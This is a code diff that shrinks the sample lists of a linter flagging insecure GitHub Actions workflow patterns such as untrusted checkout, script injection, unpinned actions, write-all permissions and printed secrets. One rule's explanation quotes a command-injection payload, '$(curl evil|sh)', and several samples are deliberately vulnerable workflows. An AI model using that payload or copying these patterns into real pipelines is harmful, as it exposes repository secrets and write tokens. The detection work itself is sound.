@@ -21,23 +21,14 @@ const untrustedCheckout: LineRule = {
   confidence: 0.75,
   why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
   fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
-  bad: [
-    {
-      path: WORKFLOW,
-      code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
-    },
-    {
-      path: WORKFLOW,
-      code: "on: [pull_request_target]\njobs:\n  a:\n    steps:\n      - run: gh pr checkout $NUMBER && make",
-    },
-  ],
-  good: [
-    {
-      path: WORKFLOW,
-      code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
-    },
-    { path: WORKFLOW, code: "on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/labeler@v5" },
-  ],
+  bad: {
+    path: WORKFLOW,
+    code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
+  },
+  good: {
+    path: WORKFLOW,
+    code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
+  },
   check: (file) => (isWorkflow(file) ? untrusted(file) : []),
 };
 
@@ -62,21 +53,11 @@ const scriptInjection: LineRule = {
   confidence: 0.85,
   why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
   fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
-  bad: [
-    { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
-    {
-      path: WORKFLOW,
-      code: "    steps:\n      - name: Branch\n        run: |\n          git checkout ${{ github.head_ref }}",
-    },
-  ],
-  good: [
-    {
-      path: WORKFLOW,
-      code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
-    },
-    { path: WORKFLOW, code: "      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}" },
-    { path: WORKFLOW, code: "concurrency:\n  group: ci-${{ github.head_ref }}" },
-  ],
+  bad: { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
+  good: {
+    path: WORKFLOW,
+    code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
+  },
   check: (file) => {
     if (!isWorkflow(file)) return [];
     const lines = knownLines(file);
@@ -116,17 +97,8 @@ const actionOnBranch: LineRule = {
   confidence: 0.6,
   why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
   fix: "Pin the action to a full commit SHA, with the version in a comment.",
-  bad: [
-    { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
-    { path: WORKFLOW, code: "      - uses: someone/setup/sub@master # latest" },
-  ],
-  good: [
-    { path: WORKFLOW, code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0" },
-    {
-      path: WORKFLOW,
-      code: "      - uses: actions/checkout@main\n      - uses: ./local/action\n      - uses: acme/deploy-action@v2",
-    },
-  ],
+  bad: { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
+  good: { path: WORKFLOW, code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0" },
   check: linesOf(isWorkflow, (text) => {
     const [, owner, name, branch] = ON_BRANCH.exec(text) ?? [];
     return owner === undefined || TRUSTED_BRANCHES.has(owner) ? null : { detail: `${owner}/${name}@${branch}` };
@@ -142,14 +114,8 @@ const writeAll: LineRule = {
   why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
   fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
   fixes: [{ from: /write-all/, to: "read-all" }],
-  bad: [
-    { path: WORKFLOW, code: "permissions: write-all" },
-    { path: WORKFLOW, code: "jobs:\n  a:\n    permissions: write-all # later" },
-  ],
-  good: [
-    { path: WORKFLOW, code: "permissions: read-all" },
-    { path: WORKFLOW, code: "permissions:\n  contents: write" },
-  ],
+  bad: { path: WORKFLOW, code: "permissions: write-all" },
+  good: { path: WORKFLOW, code: "permissions: read-all" },
   check: linesOf(isWorkflow, /^\s*permissions\s*:\s*["']?write-all\b/),
 };
 
@@ -165,15 +131,8 @@ const secretPrinted: LineRule = {
   confidence: 0.65,
   why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
   fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
-  bad: [
-    { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
-    { path: WORKFLOW, code: "        env:\n          ALL: ${{ toJSON(secrets) }}" },
-  ],
-  good: [
-    { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
-    { path: WORKFLOW, code: '      - run: echo "${{ secrets.REGISTRY }}" | docker login --password-stdin' },
-    { path: WORKFLOW, code: "        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}" },
-  ],
+  bad: { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
+  good: { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
   check: linesOf(isWorkflow, (text) => !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text))),
 };
 
@@ -185,14 +144,8 @@ const unsecureCommands: LineRule = {
   confidence: 0.9,
   why: "`set-env` and `add-path` let anything that prints to the log change the environment of later steps (CVE-2020-15228).",
   fix: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
-  bad: [
-    { path: WORKFLOW, code: "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true" },
-    { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'" },
-  ],
-  good: [
-    { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: false" },
-    { path: WORKFLOW, code: '      - run: echo "A=b" >> "$GITHUB_ENV"' },
-  ],
+  bad: { path: WORKFLOW, code: "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true" },
+  good: { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: false" },
   check: linesOf(isWorkflow, /^\s*(?:export\s+)?ACTIONS_ALLOW_UNSECURE_COMMANDS\s*[:=]\s*["']?true\b/i),
 };
 
